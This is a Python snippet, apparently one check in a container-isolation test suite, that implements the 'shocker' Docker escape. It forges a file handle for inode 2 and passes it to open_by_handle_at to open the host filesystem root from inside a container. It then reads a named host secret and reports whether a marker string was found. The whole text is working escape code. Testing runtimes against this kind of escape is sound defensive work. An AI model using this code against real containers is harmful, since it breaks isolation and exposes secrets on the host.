# Host secret through open_by_handle_at ("shocker"): a file handle for the
# root directory of the host filesystem that holds a bind-mounted file
# (/etc/hostname comes from Docker's data-root), then the secret's path
# relative to it.
host_path = ARGS[0]
marker = ARGS[1]


class FileHandle(ctypes.Structure):
    _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int),
                ("f_handle", ctypes.c_ubyte * 128)]


fh = FileHandle()
fh.handle_bytes = 128
mount_id = ctypes.c_int()
r, e = syscall(303, -100, b"/etc/hostname", ctypes.byref(fh), ctypes.byref(mount_id), 0)
info("name_to_handle_at(/etc/hostname): %s" % (e or "type %d, %d bytes" % (fh.handle_type, fh.handle_bytes)))
htype = fh.handle_type if r == 0 else 1
mfd = os.open("/etc/hostname", os.O_RDONLY)
root = FileHandle()
root.handle_bytes = 8
root.handle_type = htype
for i, b in enumerate((2, 0, 0, 0, 0, 0, 0, 0)):  # inode 2, generation 0
    root.f_handle[i] = b
fd, e = syscall(304, mfd, ctypes.byref(root), os.O_RDONLY | os.O_DIRECTORY)
if fd < 0:
    failed("open_by_handle_at(root of the host filesystem): %s" % e)
else:
    try:
        with open(os.open(host_path.lstrip("/"), os.O_RDONLY, dir_fd=fd)) as f:
            data = f.read()
        if marker in data:
            succeeded("read %s through a handle: %s" % (host_path, data.strip()))
        else:
            failed("opened the fs root, secret not there")
    except OSError as ex:
        succeeded("opened the root of the host filesystem by handle (%s: %s)"
                  % (host_path, ename(ex)))
